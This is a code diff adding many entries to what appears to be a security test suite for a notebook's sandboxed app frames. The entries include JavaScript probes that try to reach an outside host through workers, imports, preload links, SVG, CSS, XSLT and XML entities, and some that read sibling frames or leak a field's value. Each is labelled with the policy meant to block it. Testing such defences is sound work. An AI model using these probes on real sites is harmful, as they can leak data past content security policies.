@@ -112,6 +112,11 @@ REACHES = [
     reach("known-elsewhere", "Use what other sites know of the person", "return ['browsing-topics', 'storage-access', 'private-state-token-redemption'].some((name) => document.featurePolicy.allowsFeature(name))", "permissions policy"),
     reach("protocol-handler", "Take over a URL scheme", "navigator.registerProtocolHandler('web+x', HOME + '/%s'); return true", "opaque origin"),
     reach("shared-memory", "Get shared memory for precise clocks", "return crossOriginIsolated", "not isolated", INSECURE),
+    reach("wasm-code", "Make code of WebAssembly", "return await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))", "CSP script-src"),
+    reach("storage-buckets", "Keep something in a bucket of the notebook's", "return await navigator.storageBuckets.open('x')", "opaque origin"),
+    reach("quota", "Learn how much the notebook keeps", "return (await navigator.storage.estimate()).quota", "opaque origin"),
+    reach("storage-access", "Ask for the notebook's storage", "await document.requestStorageAccess(); return true", "sandbox"),
+    reach("sibling-dom", "Read another app's document", "return [...Array(top.length).keys()].some((n) => { try { return top[n] !== parent && top[n] !== window && top[n].document } catch { return false } })", "opaque origin"),
     reach("pollute-page", "Pollute the notebook's prototypes", "top.Object.prototype.mark = NAME"),
 ]  # fmt: skip
 
@@ -192,6 +197,101 @@ LOADS = [
     load("csp-loosen", "A policy that allows all", "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'Content-Security-Policy', content: 'img-src *'})); add('img', {src: `${AWAY}/${NAME}`})", "img-src"),
 ]  # fmt: skip
 
+WORKERS = [
+    load("data-worker", "A worker from a data: address", "new Worker(`data:text/javascript,fetch('${AWAY}/${NAME}', {mode: 'no-cors'})`)", "inherited policy"),
+    load("data-worker-import", "Such a worker that imports", "new Worker(`data:text/javascript,importScripts('${AWAY}/${NAME}')`)", "inherited policy"),
+    load("module-worker", "A worker that is a module and imports", "new Worker(URL.createObjectURL(new Blob([`import '${AWAY}/${NAME}'`], {type: 'text/javascript'})), {type: 'module'})", "inherited policy"),
+    load("nested-worker", "A worker of a worker", "new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob([\"fetch('${AWAY}/${NAME}', {mode: 'no-cors'})\"])))`])))", "inherited policy"),
+    load("worker-socket", "A worker's WebSocket", "new Worker(URL.createObjectURL(new Blob([`new WebSocket('${AWAY.replace('http', 'ws')}/${NAME}')`])))", "inherited policy"),
+    load("worker-xhr", "A worker's XMLHttpRequest", "new Worker(URL.createObjectURL(new Blob([`const x = new XMLHttpRequest(); x.open('GET', '${AWAY}/${NAME}'); x.send()`])))", "inherited policy"),
+    load("shared-worker-blob", "A shared worker from a blob: address", "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${AWAY}/${NAME}', {mode: 'no-cors'})`], {type: 'text/javascript'})))", "inherited policy"),
+    load("shared-worker-data", "A shared worker from a data: address", "new SharedWorker(`data:text/javascript,fetch('${AWAY}/${NAME}', {mode: 'no-cors'})`)", "inherited policy", INSECURE),
+    load("paint-worklet", "A worklet that paints", "await CSS.paintWorklet.addModule(`${AWAY}/${NAME}`)", "inherited policy"),
+]  # fmt: skip
+
+MODULES = [
+    load("import-map", "An import map", "const m = Object.assign(document.createElement('script'), {type: 'importmap', textContent: JSON.stringify({imports: {[NAME]: `${AWAY}/${NAME}`}})}); document.body.append(m); await import(NAME)", "script-src-elem"),
+    load("json-module", "A JSON module", "await import(`${AWAY}/${NAME}`, {with: {type: 'json'}})", "connect-src"),
+    load("css-module", "A CSS module", "await import(`${AWAY}/${NAME}`, {with: {type: 'css'}})", "style-src-elem"),
+    load("text-module", "A text module", "await import(`${AWAY}/${NAME}`, {with: {type: 'text'}})", "connect-src"),
+    load("wasm", "WebAssembly from elsewhere", "await WebAssembly.compileStreaming(fetch(`${AWAY}/${NAME}`))", "connect-src"),
+    load("web-bundle", "A web bundle", "document.body.append(Object.assign(document.createElement('script'), {type: 'webbundle', textContent: JSON.stringify({source: `${AWAY}/${NAME}`, resources: [`${AWAY}/x`]})})); add('img', {src: `${AWAY}/x`})", "connect-src"),
+    load("payment-manifest", "A payment method's manifest", "await new PaymentRequest([{supportedMethods: `${AWAY}/${NAME}`}], {total: {label: 'x', amount: {currency: 'USD', value: '1'}}}).canMakePayment()", "permissions policy"),
+    load("prerender", "Speculation rules that draw a page ahead, and that follow the document's links", "add('a', {href: `${AWAY}/${NAME}`}); for (const rules of [{prerender: [{urls: [`${AWAY}/${NAME}`], eagerness: 'immediate'}]}, {prefetch: [{where: {href_matches: '/*'}, eagerness: 'immediate'}]}]) add('script', {type: 'speculationrules'}).textContent = JSON.stringify(rules)", "inherited policy", "only of a page, not of a frame"),
+]  # fmt: skip
+
+OTHER_PRELOADS = [
+    "audio",
+    "audioworklet",
+    "document",
+    "embed",
+    "json",
+    "manifest",
+    "object",
+    "paintworklet",
+    "report",
+    "serviceworker",
+    "sharedworker",
+    "video",
+    "worker",
+    "xslt",
+]
+OTHER_RELATIONS = [
+    "icon",
+    "apple-touch-icon",
+    "apple-touch-startup-image",
+    "mask-icon",
+    "prerender",
+    "next",
+    "subresource",
+    "import",
+    "search",
+    "pingback",
+    "help",
+    "license",
+    "alternate",
+    "amphtml",
+    "dictionary",
+    "monetization",
+    "payment",
+]
+
+LINKS = [
+    *(load(f"preload-{kind}", f"link rel=preload as={kind}", f"add('link', {{rel: 'preload', as: '{kind}', crossorigin: '', href: `${{AWAY}}/${{NAME}}`}})", directive)
+      for kind, directive in {"font": "font-src", "script": "script-src-elem", "style": "style-src-elem", "track": "media-src"}.items()),
+    load("preload-set", "link rel=preload of a picture's srcset", "add('link', {rel: 'preload', as: 'image', imagesrcset: `${AWAY}/${NAME} 1x`})", "img-src"),
+    load("preload-others", f"link rel=preload of {len(OTHER_PRELOADS)} more kinds", f"for (const as of {OTHER_PRELOADS}) add('link', {{rel: 'preload', as, crossorigin: '', href: `${{AWAY}}/${{NAME}}`}})", "inherited policy", INSECURE),
+    load("other-stylesheet", "link rel='alternate stylesheet'", "add('link', {rel: 'alternate stylesheet', title: 'x', href: `${AWAY}/${NAME}`})", "style-src-elem"),
+    load("compression-dictionary", "link rel=compression-dictionary", "add('link', {rel: 'compression-dictionary', href: `${AWAY}/${NAME}`})", "connect-src"),
+    load("relations", f"{len(OTHER_RELATIONS)} more relations of links", f"for (const rel of {OTHER_RELATIONS}) add('link', {{rel, href: `${{AWAY}}/${{NAME}}`}})", "inherited policy", "only of a page, not of a frame"),
+]  # fmt: skip
+
+DRAWINGS = [
+    load("xml-stylesheet", "An XML document with a stylesheet", "add('iframe', {src: URL.createObjectURL(new Blob([`<?xml-stylesheet type='text/css' href='${AWAY}/${NAME}'?><a/>`], {type: 'text/xml'}))})", "frame-src"),
+    load("xslt", "XSLT: a stylesheet, an import, a document()", "const xml = (text) => new DOMParser().parseFromString(text, 'text/xml'); add('iframe', {src: URL.createObjectURL(new Blob([`<?xml-stylesheet type='text/xsl' href='${AWAY}/${NAME}'?><a/>`], {type: 'text/xml'}))}); for (const rule of [`<xsl:import href='${AWAY}/${NAME}'/>`, `<xsl:template match='/'><p><xsl:copy-of select=\"document('${AWAY}/${NAME}')\"/></p></xsl:template>`]) { const x = new XSLTProcessor(); x.importStylesheet(xml(`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>${rule}</xsl:stylesheet>`)); x.transformToFragment(xml('<a/>'), document) }", "inherited policy", INSECURE),
+    load("dtd", "A DTD and an entity of XML", "for (const text of [`<!DOCTYPE a SYSTEM '${AWAY}/${NAME}'><a/>`, `<!DOCTYPE a [<!ENTITY e SYSTEM '${AWAY}/${NAME}'>]><a>&e;</a>`]) { new DOMParser().parseFromString(text, 'text/xml'); add('iframe', {src: URL.createObjectURL(new Blob([text], {type: 'text/xml'}))}) }", "inherited policy", INSECURE),
+    *(load(f"svg-{name}", f"SVG: {attribute}", f"markup(`<svg><path d='M0 0L9 9' {attribute}='url(${{AWAY}}/${{NAME}}#a)'/></svg>`)", "img-src")
+      for name, attribute in {"fill": "fill", "masked": "mask", "clip": "clip-path", "marker": "marker-start"}.items()),
+    load("svg-set", "SVG that changes an address", "markup(`<svg><image href='data:,'><set attributeName='href' to='${AWAY}/${NAME}'/></image></svg>`)", "img-src"),
+    load("svg-style", "A style in SVG", "markup(`<svg><style>@import '${AWAY}/${NAME}';</style></svg>`)", "style-src-elem"),
+    load("svg-foreign", "HTML in SVG", "markup(`<svg><foreignObject width=9 height=9><img src='${AWAY}/${NAME}'></foreignObject></svg>`)", "img-src"),
+    load("svg-object", "SVG as an object that loads", "add('object', {data: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns='http://www.w3.org/2000/svg'><image href='${AWAY}/${NAME}'/></svg>`)}`})", "object-src"),
+    load("svg-references", "SVG: what refers to parts of other documents, and SVG as an image", "markup(`<svg><use href='${AWAY}/${NAME}#a'/><linearGradient id=g href='${AWAY}/${NAME}#a'/><pattern id=h href='${AWAY}/${NAME}#a'/><path d='M0 0L9 9' fill='url(#g)' stroke='url(#h)' filter='url(${AWAY}/${NAME}#a)'/><text><textPath href='${AWAY}/${NAME}#a'>x</textPath></text></svg>`); add('img', {src: `data:image/svg+xml,${encodeURIComponent(`<svg xmlns='http://www.w3.org/2000/svg'><image href='${AWAY}/${NAME}'/></svg>`)}`})", "inherited policy", INSECURE),
+    load("css-clip", "A clip path", "add('p').style.clipPath = `url('${AWAY}/${NAME}#a')`", "img-src"),
+    load("css-shape", "A shape that text flows round", "add('p').style.cssText = `float: left; width: 9px; height: 9px; shape-outside: url('${AWAY}/${NAME}')`", "img-src"),
+    load("css-fade", "Images that fade into each other", "add('p').style.background = `-webkit-cross-fade(url('${AWAY}/${NAME}'), url('data:,'), 50%)`", "img-src"),
+    load("css-variable", "A variable of CSS", "add('style').textContent = `.v { --x: url('${AWAY}/${NAME}'); background: var(--x) }`; add('p', {class: 'v'})", "img-src"),
+    load("css-sheet", "A stylesheet made by script", "const s = new CSSStyleSheet(); s.replaceSync(`.s { background: url('${AWAY}/${NAME}') }`); document.adoptedStyleSheets.push(s); add('p', {class: 's'})", "img-src"),
+    load("css-selector", "CSS that reads a field", "add('input', {value: 'secret'}); add('style').textContent = `input[value^=s] { background: url('${AWAY}/${NAME}') }`", "img-src"),
+    load("css-layer", "@import into a layer, if something is supported", "add('style').textContent = `@import url('${AWAY}/${NAME}') layer(x) supports(display: block)`", "style-src-elem"),
+    load("lazy-image", "An image that loads when it is seen", "add('img', {loading: 'lazy', src: `${AWAY}/${NAME}`})", "img-src"),
+    load("parsed", "Markup by Document.parseHTMLUnsafe", "document.body.append(Document.parseHTMLUnsafe(`<img src='${AWAY}/${NAME}'>`).body.firstChild)", "img-src"),
+    load("adopted", "A node out of another document", "const d = document.implementation.createHTMLDocument(); d.body.innerHTML = `<img src='${AWAY}/${NAME}'>`; document.body.append(document.adoptNode(d.body.firstChild))", "img-src"),
+    load("edited", "Markup by execCommand", "add('div', {contenteditable: ''}).focus(); document.execCommand('insertHTML', false, `<img src='${AWAY}/${NAME}'>`)", "img-src"),
+    load("declared-shadow", "A shadow tree in markup", "add('div').setHTMLUnsafe(`<div><template shadowrootmode=open><img src='${AWAY}/${NAME}'></template></div>`)", "img-src"),
+    load("odd-addresses", "Addresses that few read: a map of sources, reports, attribution, a manifest of HTML, a notification's icon", "add('script').textContent = `1\\n//# sourceMappingURL=${AWAY}/${NAME}`; add('meta', {'http-equiv': 'Report-To', content: JSON.stringify({group: 'x', max_age: 1, endpoints: [{url: `${AWAY}/${NAME}`}]})}); add('img', {attributionsrc: `${AWAY}/${NAME}`, longdesc: `${AWAY}/${NAME}`, src: 'data:,'}); document.documentElement.setAttribute('manifest', `${AWAY}/${NAME}`); new Notification('x', {icon: `${AWAY}/${NAME}`})", "inherited policy", INSECURE),
+]  # fmt: skip
+
 LEAVES = [
     leave("location", "location =", "location = `${AWAY}/${NAME}`"),
     leave("location-replace", "location.replace", "location.replace(`${AWAY}/${NAME}`)"),
@@ -242,4 +342,4 @@ CLICKS = [
     click("before-unload", "Hold the person back with a dialog", "addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = NAME })"),
 ]  # fmt: skip
 
-ATTACKS = [*REACHES, *JUPYTER, *LOADS, *LEAVES, *CLICKS]
+ATTACKS = [*REACHES, *JUPYTER, *LOADS, *WORKERS, *MODULES, *LINKS, *DRAWINGS, *LEAVES, *CLICKS]
